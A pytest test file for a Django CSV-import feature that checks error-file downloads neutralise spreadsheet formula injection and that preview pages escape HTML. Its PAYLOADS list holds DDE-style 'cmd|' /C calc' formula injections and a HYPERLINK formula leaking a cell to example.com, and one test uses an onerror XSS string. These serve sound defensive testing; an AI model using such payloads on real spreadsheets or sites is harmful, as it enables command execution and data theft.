import csv
import io

import pytest
from django.urls import reverse

from houqin.desk.demands.models import Demand
from houqin.desk.intake.tests.conftest import shared, table
from houqin.kernel.timekeeping import now
from houqin.platform.sheets.models import ImportFile
from houqin.platform.sheets.reading import FORMULA
from houqin.platform.sheets.sweeps import import_files
from houqin.platform.sheets.writing import harmless

PAYLOADS = [
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A",
    "-1+cmd|'/C calc'!A",
    '=HYPERLINK("http://example.com?x="&A1,"看")',
    "＝1+1",
]


def downloaded(desk, file, query=""):
    response = desk.client.get(reverse("intake:demands_import_errors", args=[file.pk]) + query)
    content = response.getvalue()
    assert content.startswith(b"\xef\xbb\xbf"), "Excel takes a CSV without a BOM for GBK"
    return response, list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def written(*rows):
    content = io.StringIO()
    csv.writer(content).writerows(rows)
    return content.getvalue().encode()


def test_the_error_file_is_the_table_with_what_is_wrong_beside_each_row(desk):
    file = desk.bring(
        table("标题,提交时间", "灯坏了,2026-03-02", "门坏了,昨天", ",2199-01-01"), "热线.csv"
    )
    response, rows = downloaded(desk, file)
    assert "attachment" in response["Content-Disposition"]
    assert rows == [
        ["标题", "提交时间", "错误"],
        ["灯坏了", "2026-03-02", ""],
        ["门坏了", "昨天", "提交时间：“昨天”不是时间，应写作 2026-11-23 10:24。"],
        [
            "",
            "2199-01-01",
            "提交时间：提交时间 2199-01-01 00:00:00 在将来。；标题：没有标题，也没有内容。",
        ],
    ]
    _response, wrong = downloaded(desk, file, "?only=1")
    assert [row[1] for row in wrong] == ["提交时间", "昨天", "2199-01-01"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_the_error_file_starts_a_formula(desk, payload):
    file = desk.bring(
        written([payload, "提交时间"], [payload, "昨天"]), columns={"title": payload.strip()}
    )
    _response, rows = downloaded(desk, file)
    assert rows[0][0] == rows[1][0] == f"'{payload}"


def test_collected_payloads_come_back_harmless_too(desk):
    payloads = shared("07_bad_input/csv_injection_payloads.txt").decode().splitlines()
    file = desk.bring(
        written(["标题", "提交时间"], *([payload, "昨天"] for payload in payloads if payload))
    )
    _response, rows = downloaded(desk, file)
    assert len(rows) == 13
    assert not [row for row in rows for cell in row if cell.startswith(FORMULA)]


def test_a_corrected_error_file_comes_in_as_if_it_had_never_been_away(desk):
    file = desk.bring(written(["标题", "提交时间"], ["=灯坏了", "2026-03-02"], ["-71.05", "昨天"]))
    _response, rows = downloaded(desk, file)
    assert [row[0] for row in rows] == ["标题", "'=灯坏了", "-71.05"]
    rows[2][1] = "2026-03-03"
    again = desk.bring(written(*rows))
    assert again.status == "done", again.errors
    assert list(Demand.objects.order_by("pk").values_list("title", flat=True)) == [
        "=灯坏了",
        "-71.05",
    ]


@pytest.mark.parametrize("number", ["-71.0571", "+8613800138000", "42", "2026-03-02"])
def test_plain_numbers_stay_what_they_are(number):
    assert harmless(number) == number


def test_names_that_would_be_markup_are_drawn_as_text(desk):
    name = "<img src=x onerror=alert(1)>"
    file = desk.upload(written([name, "提交时间"], [name, "2026-03-02"]), "x.csv")
    desk.map(file, columns={"title": name})
    page = desk.client.get(
        reverse("intake:demands_import_preview", args=[file.pk])
    ).content.decode()
    assert name not in page
    assert "&lt;img src=x" in page
    desk.start(file)
    import_files(now())
    assert name not in desk.client.get(file.get_absolute_url()).content.decode()


def test_a_file_without_errors_has_no_error_file(desk):
    file = desk.bring(table("标题,提交时间", "灯坏了,2026-03-02"))
    assert ImportFile.objects.get().content == b""
    assert (
        desk.client.get(reverse("intake:demands_import_errors", args=[file.pk])).status_code == 409
    )
